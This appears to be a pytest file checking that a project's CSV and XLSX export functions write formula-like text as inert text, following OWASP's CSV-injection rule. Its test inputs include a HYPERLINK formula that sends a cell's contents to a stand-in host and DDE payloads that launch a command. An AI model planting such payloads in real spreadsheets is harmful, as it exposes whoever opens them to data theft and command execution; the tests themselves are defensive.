"""No live formulas in what we write: a text cell that a spreadsheet would run as a formula
(OWASP's CSV-injection rule: it starts with =, +, -, @, a tab or a carriage return) is written
as text; numbers and dates stay what they are."""

import csv
import io
from datetime import date
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from common.downloads import template_csv
from common.spreadsheets import csv_field, csv_writer, workbook

FORMULA_LIKE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Bấm")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def written_csv(*rows: list[object]) -> list[list[str]]:
    buffer = io.StringIO()
    csv_writer(buffer).writerows(rows)
    return list(csv.reader(io.StringIO(buffer.getvalue(), newline="")))


def written_xlsx(*rows: list[object], title: str = "Danh sách", header=("A", "B")):
    content = workbook("Trang", title, list(header), rows, widths={})
    return load_workbook(io.BytesIO(content)).active


@pytest.mark.parametrize("text", FORMULA_LIKE)
def test_a_csv_field_starting_like_a_formula_gets_a_leading_quote(text):
    assert csv_field(text) == "'" + text


@pytest.mark.parametrize("value", ["Nguyễn Văn An", "", "0912 000 001", "a=b", "Tổng: -3"])
def test_other_text_is_written_as_it_is(value):
    assert csv_field(value) == value


@pytest.mark.parametrize("value", [-5, -2.5, Decimal("-1.25"), 0, 42, None, date(2025, 7, 1)])
def test_numbers_dates_and_none_are_left_to_the_writer(value):
    assert csv_field(value) is value


def test_a_csv_row_keeps_its_numbers_and_quotes_what_needs_quoting():
    rows = written_csv(
        [1, FORMULA_LIKE[0], -3, None, "Nguyễn, Văn An"],
        ["", "-", 2.5, "x", '"trích dẫn"'],
    )

    assert rows == [
        ["1", "'" + FORMULA_LIKE[0], "-3", "", "Nguyễn, Văn An"],
        ["", "'-", "2.5", "x", '"trích dẫn"'],
    ]


def test_a_formula_in_a_csv_cannot_spill_into_the_next_column():
    # A comma or a quote inside the text must not end the field early and start a new one
    # with a formula: csv.writer quotes the whole field, and the quote prefix comes first.
    buffer = io.StringIO()
    csv_writer(buffer).writerow(['=1+1,"=2+2"', "x"])

    assert buffer.getvalue() == '"\'=1+1,""=2+2""",x\r\n'


@pytest.mark.parametrize("text", FORMULA_LIKE)
def test_an_xlsx_cell_starting_like_a_formula_is_a_text_cell(text):
    sheet = written_xlsx([text, 1])

    cell = sheet["A3"]
    # XML reads a carriage return back as a line feed; the rest is the text as written.
    assert (cell.data_type, cell.value) == ("s", text.replace("\r", "\n"))
    # Editing the cell in Excel and pressing Enter keeps it text.
    assert cell.quotePrefix


def test_xlsx_numbers_stay_numbers_and_plain_text_stays_plain():
    sheet = written_xlsx([-5, -2.5, 0, None, "", "Nguyễn Văn An", date(2025, 7, 1)])

    row = sheet[3]
    assert [cell.value for cell in row[:6]] == [-5, -2.5, 0, None, None, "Nguyễn Văn An"]
    assert [cell.data_type for cell in row[:3]] == ["n", "n", "n"]
    assert row[6].is_date
    assert not row[5].quotePrefix


def test_an_xlsx_title_and_header_are_never_formulas():
    sheet = written_xlsx([1], title="=1+1", header=("@SUM(A1)", "Họ và tên"))

    assert (sheet["A1"].data_type, sheet["A1"].value) == ("s", "=1+1")
    assert (sheet["A2"].data_type, sheet["A2"].value) == ("s", "@SUM(A1)")
    assert sheet["A1"].font.b and sheet["A2"].font.b


def test_no_cell_of_a_written_workbook_holds_a_formula():
    sheet = written_xlsx(*([text, -1] for text in FORMULA_LIKE))

    assert not [
        cell.coordinate for row in sheet.iter_rows() for cell in row if cell.data_type == "f"
    ]


def test_an_import_template_quotes_its_example_like_any_csv():
    columns = {"full_name": ("Họ và tên",), "position": ("Chức vụ",)}

    response = template_csv("mau.csv", columns, ("Nguyễn, Văn An", "=1+1"))

    text = response.content.decode("utf-8")
    assert text == '\ufeffHọ và tên,Chức vụ\r\n"Nguyễn, Văn An",\'=1+1\r\n'
